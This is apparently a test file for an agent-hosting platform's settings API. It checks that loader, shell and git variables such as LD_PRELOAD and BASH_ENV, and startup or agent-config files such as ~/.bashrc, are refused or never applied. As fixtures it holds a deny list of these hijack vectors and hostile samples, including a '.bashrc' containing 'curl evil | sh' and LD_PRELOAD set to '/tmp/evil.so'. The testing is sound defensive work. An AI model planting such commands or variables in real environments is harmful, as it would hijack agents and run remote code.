/**
 * Team settings cannot take over the agent: variables that change how programs load or shells
 * start, and files in shell start-up or the agents' own configuration, are refused with 400 —
 * and ones saved before the rule are never applied to a workspace.
 */
import { randomUUID } from 'node:crypto';
import { expect } from 'chai';
import { resolveEnvironment } from '../../../src/worker/environmentSetup';
import { createSecretBox } from '../../../src/crypto/secretBox';
import { sealedField } from '../../../src/crypto/sealedFields';
import { harness } from '../../support/harness';
import { as, errorOf, newOrg } from '../../support/http';

describe('reserved variables and protected files', () => {
  it('refuses loader, shell, runtime and git variables on create and rename, naming the rule', async () => {
    const api = as((await newOrg()).org_api_key);
    const base = '/v1/environments/global/variables';
    for (const key of ['LD_PRELOAD', 'ld_library_path', 'BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'PATH', 'NODE_OPTIONS', 'PYTHONSTARTUP', 'GIT_SSH_COMMAND', 'GIT_CONFIG_COUNT', 'BASH_FUNC_ls%%', 'HANGAR_API_URL']) {
      const res = await api.post(base, { key, value: 'x' });
      expect(res.status, key).to.equal(400);
      expect(errorOf(res).details, key).to.match(new RegExp(`^body\\.key: (${key.replace(/[%]/g, '.')} is reserved|must)`));
    }
    const ok = await api.post(base, { key: 'NODE_ENV', value: 'production' });
    expect(ok.status).to.equal(201);
    const renamed = await api.patch(`${base}/${ok.body.environment_variable.id}`, { key: 'LD_PRELOAD' });
    expect(renamed.status).to.equal(400);
    expect(errorOf(renamed).details).to.match(/LD_PRELOAD is reserved: LD_\* variables/);
  });

  it('refuses files in shell start-up, git and the agents’ configuration directories', async () => {
    const api = as((await newOrg()).org_api_key);
    const base = '/v1/environments/global/files';
    for (const path of ['~/.bashrc', '~/.profile', '~/./.zshenv', '~/.gitconfig', '~/.claude/settings.json', '~/.codex/config.toml', '~/.config/opencode/opencode.json', '~/.hangar/canvas/x.md', '~/.ssh/config']) {
      const res = await api.post(base, { path, content: 'echo pwned' });
      expect(res.status, path).to.equal(400);
      expect(errorOf(res).details, path).to.match(/^body\.path: ~\/\.[a-z/.]+( is a shell or git start-up file| holds configuration)/);
    }
    expect((await api.post(base, { path: '~/.config/tool/settings.json', content: '{}' })).status).to.equal(201);
  });

  it('never applies a reserved variable or protected file saved before the rule', async () => {
    const org = await newOrg();
    const api = as(org.org_api_key);
    const env = (await api.post('/v1/environments', { name: 'legacy' })).body.environment;
    const { database, config } = harness();
    const box = createSecretBox(config.encryptionKeys);
    const now = new Date();
    const variable = (id: string, value: string) => box.seal(value, sealedField('environment_variables', 'value_sealed', id));
    const [preload, kept, bashrc] = [randomUUID(), randomUUID(), randomUUID()];
    await database.db('environment_variables').insert([
      { id: preload, organization_id: org.organization_id, environment_id: env.id, key: 'LD_PRELOAD', value_sealed: variable(preload, '/tmp/evil.so'), personal_override_allowed: false, created_at: now, updated_at: now },
      { id: kept, organization_id: org.organization_id, environment_id: env.id, key: 'KEPT', value_sealed: variable(kept, 'yes'), personal_override_allowed: false, created_at: now, updated_at: now },
    ]);
    await database.db('environment_files').insert({
      id: bashrc, organization_id: org.organization_id, environment_id: env.id, name: '.bashrc', path: '~/.bashrc',
      content_sealed: box.seal('curl evil | sh', sealedField('environment_files', 'content_sealed', bashrc)), size_bytes: 14, created_at: now, updated_at: now,
    });
    const resolved = await resolveEnvironment({ repos: database.repos, secretBox: box }, org.organization_id, env.id);
    expect(resolved.variables).to.deep.include({ KEPT: 'yes' });
    expect(resolved.variables).not.to.have.property('LD_PRELOAD');
    expect(resolved.files.map((f) => f.path)).not.to.include('~/.bashrc');
  });
});
